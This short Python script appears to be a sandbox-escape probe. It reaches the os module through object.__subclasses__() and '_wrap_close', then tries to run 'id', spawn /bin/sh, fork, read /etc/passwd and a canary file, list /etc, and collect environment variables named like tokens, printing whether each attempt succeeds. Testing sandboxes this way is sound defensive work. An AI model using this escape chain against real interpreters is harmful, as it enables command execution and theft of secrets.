def attempt(name, act):
    try:
        print(f"{name}: {act()!r}")
    except BaseException as error:
        print(f"{name}: {type(error).__name__} {getattr(error, 'code', '')}".rstrip())


import os  # so that the class exists; real payloads rely on somebody having done it

classes = ().__class__.__mro__[1].__subclasses__()
wrap = [c for c in classes if c.__name__ == "_wrap_close"]
reached = wrap[0].__init__.__globals__ if wrap else vars(os)
print("globals of os:", reached["__name__"])

for name, arguments in [("system", ("id",)), ("popen", ("id",)), ("execv", ("/bin/sh", ["sh"])), ("fork", ())]:
    attempt(name, lambda: reached[name](*arguments))
attempt("open", lambda: reached["open"]("/etc/passwd", reached["O_RDONLY"]))
attempt("fdopen", lambda: reached["fdopen"](reached["open"]("{{root}}/canary.txt", 0)).read())
attempt("listdir", lambda: reached["listdir"]("/etc"))
attempt("environ", lambda: {k: v for k, v in reached["environ"].items() if "TOKEN" in k})
